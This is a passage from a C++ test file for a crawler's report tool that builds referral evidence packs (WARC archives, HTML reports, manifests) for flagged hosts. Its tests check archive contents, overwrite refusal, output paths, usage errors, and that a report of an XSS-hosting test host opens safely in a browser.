                       {"metadata", 2}, {"request", 2}, {"response", 2}, {"warcinfo", 2}}));
  for (const std::string& id : response_ids_["amaq-mirror.test"]) EXPECT_TRUE(ids.count(id));
  for (const std::string& id : metadata_ids_["amaq-mirror.test"]) EXPECT_TRUE(ids.count(id));
  EXPECT_EQ(std::string(warc.data(), 2), "\x1f\x8b") << "the pack's own warcinfo comes first";

  // report.html: this host only.
  const std::string html = ReadFile(pack / "report.html");
  EXPECT_NE(html.find("id=\"host-amaq-mirror.test\""), std::string::npos);
  EXPECT_EQ(html.find("radio-bayan.test"), std::string::npos);
  EXPECT_NE(out.find(pack.string()), std::string::npos) << out;

  // warcio reads every record, every digest matches, and the records are where summary.json
  // says they are.
  if (const std::string missing = NodeCheckMissing("warcio"); !missing.empty()) {
    GTEST_SKIP() << missing;
  }
  const Json expected = {
      {"counts", {{"warcinfo", 3}, {"request", 2}, {"response", 2}, {"metadata", 2}}},
      {"refs", refs}};
  std::ofstream(dir_ / "expect.json") << expected.dump(1);
  std::string output;
  const int status = RunNode(
      "verify.mjs",
      {"--pack", "--expect", (dir_ / "expect.json").string(), (pack / "evidence.warc.gz").string()},
      dir_ / "verify.log", &output);
  std::printf("%s", output.c_str());
  EXPECT_EQ(status, 0) << output;
  EXPECT_NE(output.find(", 0 problems"), std::string::npos) << output;
}

TEST_F(ReportTest, ReferralPackRefusesToOverwrite) {
  BuildStore();
  const fs::path pack = dir_ / "pack";
  ASSERT_EQ(Report({"--referral", "amaq-mirror.test", "--out", pack.string()}), 0);
  const std::string before = ReadFile(pack / "summary.json");
  std::string err;
  EXPECT_EQ(Report({"--referral", "amaq-mirror.test", "--out", pack.string()}, nullptr, &err), 2);
  EXPECT_NE(err.find("refusing to overwrite"), std::string::npos) << err;
  EXPECT_EQ(ReadFile(pack / "summary.json"), before);
}

TEST_F(ReportTest, ReferralPackGoesToDirReferralsByDefault) {
  BuildStore();
  std::string out, err;
  ASSERT_EQ(Report({"--referral", "AMAQ-Mirror.test"}, &out, &err), 0) << err;
  std::vector<fs::path> packs;
  for (const auto& entry : fs::directory_iterator(dir_ / "referrals")) packs.push_back(entry);
  ASSERT_EQ(packs.size(), 1u);
  EXPECT_EQ(packs[0].filename().string().rfind("amaq-mirror.test-2", 0), 0u) << packs[0];
  EXPECT_TRUE(fs::exists(packs[0] / "manifest-sha256.txt"));
}

TEST_F(ReportTest, ReferralPackOfTheHostileHostOpensSafely) {
  if (const std::string missing = NodeCheckMissing("playwright-core", /*needs_chromium=*/true); !missing.empty()) {
    GTEST_SKIP() << missing;
  }
  BuildStore();
  AddHostileHosts();
  const fs::path pack = dir_ / "pack";
  ASSERT_EQ(Report({"--referral", "xss.test", "--out", pack.string()}), 0);
  std::string output;
  EXPECT_EQ(RunNode("open-report.mjs", {(pack / "report.html").string(), "--strip-csp"},
                    dir_ / "browser.log", &output),
            0)
      << output;
  EXPECT_EQ(BrowserVerdict(output)["host_sections"], 1) << output;
}

// --- usage and unreadable input ------------------------------------------------------------

TEST_F(ReportTest, UsageErrorsAndUnreadableInputExitTwo) {
  BuildStore();
  const fs::path empty = dir_ / "empty";
  fs::create_directories(empty);
  const struct {
    std::vector<std::string> args;  // after "report"
    const char* message;
  } cases[] = {
      {{}, "no DIR given"},
      {{dir_.string(), "--format", "xml"}, "unknown --format 'xml'"},
      {{dir_.string(), "--format"}, "--format needs a value"},
      {{dir_.string(), "--colour"}, "unknown option '--colour'"},
      {{dir_.string(), dir_.string()}, "one DIR only"},
      {{dir_.string(), "--referral", "a.test", "--format", "csv"}, "does not apply to --referral"},
      {{empty.string()}, "no crawl.db in"},
      {{dir_.string(), "--referral", "never-flagged.test"}, "unknown host 'never-flagged.test'"},
  };
  for (const auto& c : cases) {
    std::ostringstream out, err;
    EXPECT_EQ(RunReportCommand(c.args, out, err), 2) << c.message;
    EXPECT_NE(err.str().find(c.message), std::string::npos) << err.str();
    EXPECT_EQ(out.str(), "") << c.message;
  }
  EXPECT_FALSE(fs::exists(empty / "crawl.db")) << "report never creates a store";
  EXPECT_FALSE(fs::exists(dir_ / "referrals"));
}

}  // namespace
}  // namespace mw
